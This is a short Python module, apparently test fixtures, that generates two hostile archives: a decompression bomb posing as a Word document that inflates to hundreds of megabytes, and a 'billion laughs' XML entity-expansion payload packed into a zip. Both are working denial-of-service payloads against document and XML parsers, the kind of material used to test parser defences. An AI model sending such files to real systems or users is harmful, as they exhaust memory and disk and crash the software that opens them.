"""Archives that are made to harm whoever unpacks them, and the making of any archive."""

import io
import zipfile


def bomb(megabytes: int = 400) -> bytes:
    """Return a Word document that unpacks to far more than it is."""
    return zipped(
        {"[Content_Types].xml": b"<x/>", "word/document.xml": b" " * (megabytes * 1_000_000)}
    )


def laughing(member: str, others: dict[str, bytes]) -> bytes:
    """Return an archive whose XML refers to itself a billion times."""
    entities = "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' if n else '<!ENTITY a0 "ha ha ha ha">'
        for n in range(10)
    )
    text = f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><x>&a9;</x>'
    return zipped(others | {member: text.encode()})


def zipped(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()
